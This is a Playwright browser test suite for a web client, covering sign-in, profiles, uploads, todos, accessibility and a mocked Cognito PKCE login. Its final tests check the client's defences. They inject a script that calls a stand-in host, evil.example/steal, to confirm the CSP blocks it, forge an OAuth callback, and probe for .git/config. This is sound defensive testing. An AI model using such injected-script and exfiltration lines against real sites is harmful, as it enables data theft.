/**
 * The web client (web/) in a real browser: Debian's Chromium, driven by playwright-core, on the
 * client's own origin (its Vite dev server) against the whole local stack on another, so CORS is
 * exercised for real on the token endpoint, the API and the bucket alike. The AWS sign-in (code +
 * PKCE on Cognito's hosted UI) runs against a mocked Cognito (./mocked-cognito.ts).
 */
import { existsSync } from "node:fs";
import { mkdir, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import type { ViteDevServer } from "vite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { users } from "../../app/entities/users.js";
import { defaultDataDir } from "../../src/local/dev/local-state.js";
import { localTokenPath } from "../../src/runtime/index.js";
import { useLocalStack } from "../files/local-stack.js";
import { unique } from "../http/users-helpers.js";
import { pngBytes, uploadWithTicket } from "../support/uploads.js";
import { type MockedCognito, startMockedCognito } from "./mocked-cognito.js";
import {
  expectAccessible,
  focusVisible,
  gradientPng,
  launchChromium,
  openPage,
  policyViolations,
  screenshot,
  startWeb,
  tabTo,
} from "./support.js";

const stack = useLocalStack();
const avatarLimit = users.files?.avatar?.maxBytes ?? 0;
let browser: Browser;
let web: { url: string; server: ViteDevServer };

/**
 * Starts every function the client calls, at once and as a user of its own: a function's first
 * request starts its sandbox, which takes seconds, and one at a time they would take most of the run.
 */
async function warmFunctions(): Promise<void> {
  const sub = await stack().newUser("warm");
  const call = (method: string, path: string, body?: unknown) =>
    stack()
      .call(sub, method, path, body)
      .then((response) => response.arrayBuffer());
  const todo = (await (await stack().call(sub, "POST", "/users/me/todos", { title: "warm" })).json()) as {
    todoId: string;
  };
  const at = `/users/me/todos/${todo.todoId}`;
  await Promise.all([
    call("GET", "/users/me"),
    call("PATCH", "/users/me", { bio: "warm" }),
    call("GET", "/users/me/avatar"),
    call("GET", "/users/me/todos"),
    call("GET", at),
    call("PATCH", at, { done: true }),
    call("POST", `${at}/attachments`, { contentType: "image/png" }),
    stack()
      .ticket(sub)
      .then((ticket) => uploadWithTicket(ticket, pngBytes())),
  ]);
  await call("DELETE", at);
}

beforeAll(async () => {
  [web, browser] = await Promise.all([startWeb(stack().server.apiUrl), launchChromium(), warmFunctions()]);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await web?.server.close();
});

/** A fresh tab of its own (own sessionStorage) on the web client, at 1280×900. */
function newPage(): Promise<Page> {
  return openPage(browser, web.url);
}

async function signIn(page: Page, name: string): Promise<void> {
  await page.getByLabel("Your name").fill(name);
  await page.getByRole("button", { name: "Sign in" }).click();
}

async function createProfile(page: Page, name: string, firstName = "Ada"): Promise<void> {
  await eventually(() => page.getByRole("heading", { name: "Create your profile" }).isVisible()).toBe(true);
  await page.getByLabel("Username").fill(name);
  await page.getByLabel("First name").fill(firstName);
  await page.getByLabel("Last name").fill("Lovelace");
  await page.getByLabel("Email").fill(`${name}@example.com`);
  await page.getByRole("button", { name: "Create profile" }).click();
  await page.getByRole("heading", { name: `Hello, ${firstName}` }).waitFor();
}

/** A user signed in with a profile, on the main screen. */
async function signedInUser(label: string): Promise<{ page: Page; name: string }> {
  const name = unique(label);
  const page = await newPage();
  await signIn(page, name);
  await createProfile(page, name);
  return { page, name };
}

const alert = (page: Page) => page.locator("#errors");
/** Polls until the value matches: a function's first request starts its sandbox, which takes seconds. */
const eventually = <T>(read: () => Promise<T>) => expect.poll(read, { timeout: 20_000, interval: 100 });
const status = (page: Page) => page.locator("#status");

describe("the web client", () => {
  it("signs in, creates and edits the profile, shows an uploaded avatar, and pages, completes, deletes and attaches to todos", async () => {
    const name = unique("ada");
    const page = await newPage();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    await expectAccessible(page, "sign-in");
    await screenshot(page, "1-sign-in");

    await signIn(page, name);
    await page.getByRole("heading", { name: "Create your profile" }).waitFor();
    await expectAccessible(page, "create profile");
    await screenshot(page, "2-create-profile");
    await createProfile(page, name);

    await page.getByLabel("First name").fill("Augusta Ada");
    await page.getByLabel("About you (optional)").fill("Wrote the first program.");
    await page.getByRole("button", { name: "Save profile" }).click();
    await eventually(() => status(page).textContent()).toContain("Profile saved.");
    await eventually(() => page.locator(".meta").textContent()).toContain("Version 2");

    await page
      .getByLabel("Avatar image")
      .setInputFiles({ name: "me.png", mimeType: "image/png", buffer: gradientPng() });
    await page.getByRole("button", { name: "Upload avatar" }).click();
    const avatar = page.getByRole("img", { name: "Your avatar" });
    await avatar.waitFor({ state: "visible", timeout: 20_000 });
    expect(await avatar.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(96);
    // Recording the avatar was a write: the next edit goes through with the new ETag, not a 412.
    await page.getByLabel("Last name").fill("King");
    await page.getByRole("button", { name: "Save profile" }).click();
    await eventually(() => status(page).textContent()).toContain("Profile saved.");

    for (const title of [
      "Buy milk",
      "Write the notes",
      "Call Charles",
      "Fix the engine",
      "Post letters",
      "Read Menabrea",
      "Plan the trip",
    ]) {
      await page.getByLabel("New todo").fill(title);
      await page.getByRole("button", { name: "Add todo" }).click();
      await eventually(() => page.locator(".todo-list label").first().textContent()).toBe(title);
    }
    const titles = () => page.locator(".todo-main label").allTextContents();
    expect(await titles()).toEqual([
      "Plan the trip",
      "Read Menabrea",
      "Post letters",
      "Fix the engine",
      "Call Charles",
    ]);
    await page.getByRole("button", { name: "Next page" }).click();
    await eventually(titles).toEqual(["Write the notes", "Buy milk"]);
    expect(await page.getByRole("button", { name: "Next page" }).isDisabled()).toBe(true);
    await page.getByRole("button", { name: "Previous page" }).click();
    await eventually(titles).toContain("Plan the trip");

    await page.getByLabel("Post letters", { exact: true }).check();
    await eventually(() => page.locator(".todo.done .todo-main label").allTextContents()).toEqual([
      "Post letters",
    ]);
    await page.getByRole("button", { name: "Delete “Call Charles”" }).click();
    await eventually(titles).toEqual([
      "Plan the trip",
      "Read Menabrea",
      "Post letters",
      "Fix the engine",
      "Write the notes",
    ]);

    await page.getByLabel("Attach an image to “Fix the engine”").setInputFiles({
      name: "engine.png",
      mimeType: "image/png",
      buffer: pngBytes(2048),
    });
    await page.getByRole("button", { name: "Attach to “Fix the engine”" }).click();
    const engine = page.locator(".todo", { hasText: "Fix the engine" });
    await eventually(() => engine.locator(".attachments").textContent()).toBe(
      "1 attachment: image/png (2 KB)",
    );

    await expectAccessible(page, "main");
    await screenshot(page, "3-main");
    // All of it (API, token, S3 uploads, the avatar's redirect) within the page's CSP.
    expect(await policyViolations(page)).toEqual([]);
  });

  it("refuses a stale edit from a second tab with a clear message, and Reload brings the other tab's change", async () => {
    const { page: first, name } = await signedInUser("stale");
    const second = await newPage();
    await signIn(second, name);
    await second.getByRole("heading", { name: "Hello, Ada" }).waitFor();
    await second.getByLabel("Last name").fill("Byron");
    await second.getByRole("button", { name: "Save profile" }).click();
    await eventually(() => status(second).textContent()).toContain("Profile saved.");

    await first.getByLabel("First name").fill("Countess");
    await first.getByRole("button", { name: "Save profile" }).click();
    await eventually(() => alert(first).textContent()).toContain(
      "Someone changed this profile since you loaded it",
    );
    const reload = first.getByRole("button", { name: "Reload profile" });
    // The way out has the focus, so a keyboard user is one Enter away from it.
    expect(await reload.evaluate((button) => button === document.activeElement)).toBe(true);
    await expectAccessible(first, "stale edit");
    await screenshot(first, "4-stale-edit");

    await first.keyboard.press("Enter");
    await eventually(() => first.getByLabel("Last name").inputValue()).toBe("Byron");
    expect(await first.getByLabel("First name").inputValue()).toBe("Ada");
    await first.getByLabel("First name").fill("Countess");
    await first.getByRole("button", { name: "Save profile" }).click();
    await eventually(() => status(first).textContent()).toContain("Profile saved.");
  });

  it("refuses an avatar over the ticket's maxBytes before sending it, and shows the S3 front's own refusal clearly", async () => {
    const { page } = await signedInUser("big");
    const tooBig = { name: "huge.png", mimeType: "image/png", buffer: pngBytes(avatarLimit + 1) };
    const uploads: string[] = [];
    page.on("request", (request) => {
      if (request.method() === "POST" && !request.url().startsWith(stack().server.url))
        uploads.push(request.url());
    });
    await page.getByLabel("Avatar image").setInputFiles(tooBig);
    await page.getByRole("button", { name: "Upload avatar" }).click();
    await eventually(() => alert(page).textContent()).toContain("“huge.png” is too big");
    expect(await alert(page).textContent()).toContain("the largest file allowed is 5 MB (5,242,880 bytes)");
    expect(uploads).toEqual([]);
    await screenshot(page, "5-too-big");

    // A client that trusted a tampered ticket (maxBytes raised) sends the file: S3's policy still says no.
    await page.route("**/v1/users/me/avatar", async (route) => {
      const response = await route.fetch();
      const ticket = (await response.json()) as { maxBytes: number };
      await route.fulfill({ response, json: { ...ticket, maxBytes: ticket.maxBytes * 10 } });
    });
    await page.getByRole("button", { name: "Upload avatar" }).click();
    await eventually(() => alert(page).textContent()).toContain(
      "The storage service refused “huge.png” (EntityTooLarge): it is larger than the upload allows.",
    );
    expect(uploads).toHaveLength(1);
    await screenshot(page, "6-refused-by-s3");
  });

  it("is usable with the keyboard alone: sign in, create the profile, add, complete, page and delete todos", async () => {
    const name = unique("keys");
    const page = await newPage();
    await page.getByRole("heading", { name: "Sign in" }).waitFor();
    await tabTo(page, "#sign-in-name");
    expect(await focusVisible(page)).toBe(true);
    await page.keyboard.type(name);
    await page.keyboard.press("Enter");

    await page.getByRole("heading", { name: "Create your profile" }).waitFor();
    await tabTo(page, "#create-first-name");
    await page.keyboard.type("Grace");
    await page.keyboard.press("Tab");
    await page.keyboard.type("Hopper");
    await page.keyboard.press("Tab");
    await page.keyboard.type(`${name}@example.com`);
    await tabTo(page, "button[type=submit]");
    expect(await focusVisible(page)).toBe(true);
    await page.keyboard.press("Enter");

    await page.getByRole("heading", { name: "Hello, Grace" }).waitFor();
    await tabTo(page, "#new-todo-title");
    for (let n = 1; n <= 7; n++) {
      await page.keyboard.type(`Task ${n}`);
      await page.keyboard.press("Enter");
      await eventually(() => page.locator(".todo-main label").first().textContent()).toBe(`Task ${n}`);
      // Focus stays in the field, ready for the next one.
      expect(await page.evaluate(() => document.activeElement?.id)).toBe("new-todo-title");
    }
    await tabTo(page, ".todo-main input[type=checkbox]");
    await page.keyboard.press("Space");

    await eventually(() => page.locator(".todo.done .todo-main label").allTextContents()).toEqual(["Task 7"]);
    await tabTo(page, ".todo-main button.danger");
    expect(await focusVisible(page)).toBe(true);
    await page.keyboard.press("Enter");
    await eventually(() => page.locator(".todo-main label").first().textContent()).toBe("Task 6");
    await tabTo(page, ".pager button:not([disabled])");
    await page.keyboard.press("Enter");
    await eventually(() => page.locator(".todo-main label").allTextContents()).toEqual(["Task 1"]);
    expect(await page.locator(".page-label").textContent()).toBe("Page 2");
  });
});

describe("signing in on AWS, against a mocked Cognito", () => {
  let cognito: MockedCognito;
  let oidcWeb: { url: string; server: ViteDevServer };
  const user = { sub: unique("cognito"), email: "grace@example.com" };

  beforeAll(async () => {
    cognito = await startMockedCognito({
      clientId: "web-client",
      user,
      accessToken: async (sub) => (await stack().server.tokenIssuer.issue({ sub })).access_token,
    });
    oidcWeb = await startWeb(stack().server.apiUrl, {
      VITE_AUTH_ISSUER: cognito.issuer,
      VITE_AUTH_CLIENT_ID: "web-client",
    });
  });

  afterAll(async () => {
    await oidcWeb?.server.close();
    await cognito?.stop();
  });

  it("goes through the hosted UI with code + PKCE, keeps the tokens in sessionStorage only, and calls the API with them", async () => {
    const page = await openPage(browser, oidcWeb.url);
    await page.getByRole("button", { name: "Sign in" }).click();
    // Back from the mocked hosted UI, signed in: the API knows no profile for this sub yet.
    await page.getByRole("heading", { name: "Create your profile" }).waitFor();
    expect(cognito.exchanges).toEqual([{ code: expect.any(String), granted: true }]);
    expect(page.url()).toBe(`${oidcWeb.url}/`);
    expect(await page.locator("#account").textContent()).toContain(user.email);
    const stored = await page.evaluate(() => ({
      session: Object.keys(sessionStorage),
      local: Object.keys(localStorage),
    }));
    expect(stored).toEqual({ session: ["portico.session"], local: [] });
    expect(await policyViolations(page)).toEqual([]);
  });

  it("refuses a callback whose state this tab did not make, without exchanging its code", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${oidcWeb.url}/?code=stolen&state=forged`);
    await eventually(() => alert(page).textContent()).toContain("its state does not match");
    expect(cognito.exchanges.filter(({ code }) => code === "stolen")).toEqual([]);
    expect(page.url()).toBe(`${oidcWeb.url}/`);
    await page.getByRole("button", { name: "Sign in" }).waitFor();
  });
});

describe("the web client's dev server, as another page on this machine sees it", () => {
  const repository = join(import.meta.dirname, "../..");
  const read = (path: string, origin?: string) =>
    fetch(`${web.url}/@fs${join(repository, path)}`, { headers: origin ? { origin } : {} });

  it("serves the client's own code, and no other file of the repository", async () => {
    expect((await read("src/client/index.ts")).status).toBe(200);
    for (const path of ["package.json", ".git/config", "src/local/dev/local-state.ts"]) {
      const response = await read(path);
      expect({ path, status: response.status }).toEqual({ path, status: 403 });
    }
  });

  it("serves nothing of the local data folder, where the issuer's signing key is", async () => {
    // A file of its own there (a clean clone has no data folder yet; a developer's is left as it was).
    const dataDir = join(repository, defaultDataDir);
    const made = !existsSync(dataDir);
    const probe = join(defaultDataDir, `probe-${process.pid}.json`);
    await mkdir(dataDir, { recursive: true, mode: 0o700 });
    await writeFile(join(repository, probe), '{"secret":true}');
    try {
      const response = await read(probe);
      expect(response.status).toBe(403);
      expect(await response.text()).not.toContain("secret");
    } finally {
      await rm(made ? dataDir : join(repository, probe), { recursive: true, force: true });
    }
  });

  it("passes a same-origin token request on to the local issuer, and another page's preflight gets no CORS", async () => {
    const url = `${web.url}${localTokenPath}`;
    const minted = await fetch(url, {
      method: "POST",
      headers: { origin: web.url, "content-type": "application/json" },
      body: JSON.stringify({ sub: "through-the-proxy" }),
    });
    expect(minted.status).toBe(200);
    expect(((await minted.json()) as { token_type: string }).token_type).toBe("Bearer");
    for (const origin of ["http://localhost:8080", "http://127.0.0.1:3000", "https://evil.example"]) {
      const preflight = await fetch(url, {
        method: "OPTIONS",
        headers: {
          origin,
          "access-control-request-method": "POST",
          "access-control-request-headers": "content-type",
        },
      });
      expect({ origin, allowed: preflight.headers.get("access-control-allow-origin") }).toEqual({
        origin,
        allowed: null,
      });
    }
  });

  it("puts a Content-Security-Policy in the page that runs no injected script and reaches no other host", async () => {
    const page = await newPage();
    const complaints: string[] = [];
    page.on("console", (message) => {
      if (message.text().includes("Content Security Policy")) complaints.push(message.text());
    });
    await page.reload();
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(policy).toContain("script-src 'self';");
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.injected = true";
      document.body.append(script);
      await fetch("https://evil.example/steal").catch(() => undefined);
      return (window as unknown as { injected?: boolean }).injected === true;
    });
    expect(ran).toBe(false);
    await eventually(() => policyViolations(page)).toEqual([
      "script-src-elem inline",
      "connect-src https://evil.example/steal",
    ]);
    // The browser took every source of the policy (it ignores one it cannot parse, and says so).
    expect(complaints.filter((text) => text.includes("invalid source"))).toEqual([]);
    await page.context().close();
  });

  it("answers no CORS, so a page on another localhost port cannot read what it serves", async () => {
    const response = await read("src/client/index.ts", "http://localhost:8080");
    expect(response.status).toBe(200);
    expect(response.headers.get("access-control-allow-origin")).toBeNull();
  });
});
